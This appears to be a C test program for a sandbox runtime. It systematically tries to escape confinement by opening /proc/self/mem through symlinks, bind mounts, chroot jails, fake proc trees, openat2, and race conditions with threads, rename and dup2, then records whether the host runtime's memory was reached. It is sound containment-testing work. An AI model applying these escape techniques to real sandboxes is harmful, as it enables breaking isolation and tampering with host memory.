// SPDX-License-Identifier: Apache-2.0
// The memory of the process, opened as a file: by every name, detour and file system trick.
#include "attack.h"

enum { MS_BIND = 4096 };

// A descriptor is worth something if the runtime can be read through it.
static int usable(i64 fd) {
    char bytes[4] = {0};
    if (fd < 0) return CONTAINED;
    if (sys_pread64(fd, bytes, 4, runtime_image()) == 4 && is_elf(bytes)) return REACHED;
    char none = 0;
    return sys_pwrite64(fd, &none, 1, host_base() + (u64)(usize)&none) == 1 ? REACHED : CONTAINED;
}
static int tried(const char* path, u32 flags) { return usable(sys_open(path, flags, 0)); }

static int by_name(void) { return tried("/proc/self/mem", O_RDONLY); }
static int to_write(void) { return tried("/proc/self/mem", O_WRONLY); }
static int as_thread(void) { return tried("/proc/thread-self/mem", O_RDWR); }
static int through_root(void) { return tried("/proc/self/root/proc/self/mem", O_RDWR); }
static int through_cwd(void) { return sys_chdir("/proc/self") == 0 ? tried("cwd/cwd/mem", O_RDWR) : NOT_HERE; }
static int through_link(void) {
    sys_symlink("/proc/self/mem", "alias");
    return tried("alias", O_RDWR);
}
static int beneath_folder(void) {
    return usable(sys_openat(sys_open("/proc/self", O_PATH | O_DIRECTORY, 0), "mem", O_RDWR, 0));
}
static int by_openat2(void) {
    u64 how[3] = {O_RDWR, 0, 0x08};  // RESOLVE_BENEATH
    return usable(sys_openat2(sys_open("/proc/self", O_RDONLY, 0), "mem", how, sizeof how));
}
static int by_creat(void) { return usable(sys_creat("/proc/self/mem", 0600)); }
static void put_decimal(char* to, i32 n) {
    char digits[12];
    int k = 0;
    do digits[k++] = (char)('0' + n % 10);
    while (n /= 10);
    while (k) *to++ = digits[--k];
    *to = 0;
}
static int by_descriptor_of_path(void) {
    char path[32] = "/proc/self/fd/";
    i64 found = sys_open("/proc/self/mem", O_PATH, 0);
    if (found < 0) return CONTAINED;
    put_decimal(path + length(path), (i32)found);
    return tried(path, O_RDWR);
}
static int of_another_thread(void) {
    char path[64] = "/proc/self/task/";
    start_company();
    put_decimal(path + length(path), company.tid);
    memcpy(path + length(path), "/mem", 5);
    return tried(path, O_RDWR);
}
static int of_the_parent(void) {
    char path[64] = "/proc/";
    put_decimal(path + length(path), (i32)sys_getppid());
    memcpy(path + length(path), "/mem", 5);
    return sys_open(path, O_RDONLY, 0) >= 0 ? REACHED : CONTAINED;
}

// The same file under another name, on which no name says what it is.
static i64 bind_somewhere(void) {
    sys_close(sys_open("harmless", O_CREAT | O_RDWR, 0600));
    return sys_mount("/proc/self/mem", "harmless", 0, MS_BIND, 0);
}
static int by_bind_mount(void) { return bind_somewhere() == 0 ? tried("harmless", O_RDWR) : NOT_HERE; }
static int by_bind_mount_in_company(void) {
    if (bind_somewhere() != 0) return NOT_HERE;
    start_company();
    return tried("harmless", O_RDWR);
}
static int by_second_proc(void) {
    sys_mkdir("other", 0700);
    return sys_mount("proc", "other", "proc", 0, 0) == 0 ? tried("other/self/mem", O_RDWR) : NOT_HERE;
}
// Where /proc cannot be asked any more.
static int from_jail(int threads) {
    i64 proc = sys_open("/proc", O_RDONLY | O_DIRECTORY, 0);
    u64 image = runtime_image();
    sys_mkdir("jail", 0700);
    if (threads) start_company();
    if (sys_chroot("jail") != 0) return NOT_HERE;
    i64 fd = sys_openat(proc, "self/mem", O_RDWR, 0);
    char bytes[4] = {0};
    return fd >= 0 && sys_pread64(fd, bytes, 4, image) == 4 && is_elf(bytes) ? REACHED : CONTAINED;
}
static int from_jail_alone(void) { return from_jail(0); }
static int from_jail_in_company(void) { return from_jail(1); }

// While another thread uses whatever descriptor it sees.
static volatile u32 stop, stolen, turns;
static u64 image;
static void grab(int tid, void* argument) {
    (void)tid, (void)argument;
    for (; !stop; ++turns) {
        for (i32 fd = 3; fd < 12; ++fd) {
            char bytes[4] = {0};
            if (sys_pread64(fd, bytes, 4, image) == 4 && is_elf(bytes)) stolen = 1;
        }
    }
}
// Opens it again and again, beside a thread that does `work` until it is told to stop.
static int open_beside(void (*work)(int, void*), const char* name, u32 flags) {
    static struct thread_t worker;
    start(&worker, work, 0);
    for (int i = 0; i < 3000 && !stolen; ++i) {
        char bytes[4] = {0};
        i32 fd = (i32)sys_open(name, flags, 0);
        if (i % 100 == 0) {
            for (u32 before = turns; turns == before;) sys_sched_yield();
        }
        if (fd < 0) continue;
        if (sys_pread64(fd, bytes, 4, image) == 4 && is_elf(bytes)) stolen = 1;
        sys_close(fd);
    }
    stop = 1;
    return stolen ? REACHED : CONTAINED;
}
static int open_while_grabbed(const char* name, u32 flags) { return open_beside(grab, name, flags); }
// Under a name of the kernel's own.
static int as_parameter(void) {
    image = runtime_image();
    const char* name = "/proc/sys/kernel/hostname";
    return sys_mount("/proc/self/mem", name, 0, MS_BIND, 0) == 0 ? open_while_grabbed(name, O_RDWR) : NOT_HERE;
}
// Numbers that lead to memory, where the runtime might look for its descriptors.
static void make_numbers(const char* folder, const char* target) {
    char name[64] = {0};
    memcpy(name, folder, length(folder));
    for (i32 n = 960; n < 1100; ++n) {
        put_decimal(name + length(folder), n);
        sys_symlink(target, name);
    }
}
static int from_jail_with_false_proc(void) {
    image = runtime_image();
    sys_mkdir("false", 0700), sys_mkdir("false/true", 0700), sys_mkdir("false/proc", 0700);
    sys_mkdir("false/proc/self", 0700), sys_mkdir("false/proc/self/fd", 0700);
    make_numbers("false/proc/self/fd/", "/true/self/mem");
    if (sys_mount("/proc", "false/true", 0, MS_BIND | 16384, 0) != 0 || sys_chroot("false") != 0) return NOT_HERE;
    sys_chdir("/");
    sys_close(sys_open("plain", O_CREAT | O_RDWR, 0600));
    return open_while_grabbed("plain", O_RDWR);
}
static int through_false_descriptors(void) {
    image = runtime_image();
    sys_mkdir("numbers", 0700);
    make_numbers("numbers/", "/proc/self/mem");
    sys_close(sys_open("plain", O_CREAT | O_RDWR, 0600));
    if (sys_mount("numbers", "/proc/self/fd", 0, MS_BIND, 0) != 0) return NOT_HERE;
    return open_while_grabbed("plain", O_RDWR);
}

// While another thread turns the name round and uses whatever descriptor it sees.
static void turn_and_grab(int tid, void* argument) {
    (void)tid, (void)argument;
    for (; !stop; ++turns) {
        sys_symlink(turns % 2 ? "/proc/self/mem" : "plain", "next");
        sys_rename("next", "turning");
        for (i32 fd = 3; fd < 12; ++fd) {
            char bytes[4] = {0};
            if (sys_pread64(fd, bytes, 4, image) == 4 && is_elf(bytes)) stolen = 1;
        }
    }
}
// An odd number of turns, so that the name leads elsewhere afterwards, with a whole one among them, so that a
// descriptor that is open meanwhile has been tried: with one processor, too, for the other thread gets its time here.
static void let_it_turn(void) {
    for (u32 before = turns; turns - before < 3;) sys_sched_yield();
}
static int by_race(void) {
    static struct thread_t turner;
    image = runtime_image();
    sys_close(sys_open("plain", O_CREAT | O_RDWR, 0600));
    sys_symlink("plain", "turning");
    start(&turner, turn_and_grab, 0);
    for (int i = 0; i < 3000 && !stolen; ++i) {
        i64 fd = sys_open("turning", O_RDWR, 0);
        if (i % 8 == 0) let_it_turn();
        if (fd >= 0) sys_close(fd);
    }
    stop = 1;
    return stolen ? REACHED : CONTAINED;
}

// While another thread puts a link to memory in the place of whatever descriptor comes up.
static void displace(int tid, void* argument) {
    (void)tid, (void)argument;
    enum { AWAY = 40 };
    sys_dup2((i32)sys_open("/proc/self/mem", O_PATH, 0), AWAY);
    for (; !stop; ++turns) {
        for (i32 fd = 3; fd < 9; ++fd) {
            sys_dup2(AWAY, fd);
            sys_close(fd);
        }
    }
}
static int by_displaced_file(void) {
    sys_close(sys_open("plain", O_CREAT | O_RDWR, 0600));
    image = runtime_image();
    return open_beside(displace, "plain", O_RDONLY);
}
// What the runtime itself writes.
static int by_displaced_description(void) {
    image = runtime_image();
    return open_beside(displace, "/proc/self/status", O_RDONLY);
}

static const struct attack attacks[] = {
    {"by name", by_name, 0},
    {"to write", to_write, 0},
    {"as a thread", as_thread, 0},
    {"through the root", through_root, 0},
    {"through the working folder", through_cwd, 0},
    {"through a link", through_link, 0},
    {"beneath a folder", beneath_folder, 0},
    {"by openat2", by_openat2, 0},
    {"by creat", by_creat, 0},
    {"by the descriptor of a path", by_descriptor_of_path, 0},
    {"of another thread", of_another_thread, 0},
    {"of the parent", of_the_parent, 0},
    {"by a bind mount", by_bind_mount, 0},
    {"by a bind mount, in company", by_bind_mount_in_company, 0},
    {"by a second proc", by_second_proc, 0},
    {"from a jail", from_jail_alone, 0},
    {"from a jail, in company", from_jail_in_company, 0},
    {"as a parameter of the kernel", as_parameter, 0},
    {"from a jail with a false proc", from_jail_with_false_proc, 0},
    {"through false descriptors", through_false_descriptors, 0},
    {"by a race", by_race, 0},
    {"by a displaced file", by_displaced_file, 0},
    {"by a displaced description", by_displaced_description, 0},
};

int guest_main(int argc, char** argv) {
    (void)argc, (void)argv;
    RUN(attacks);
    return 0;
}
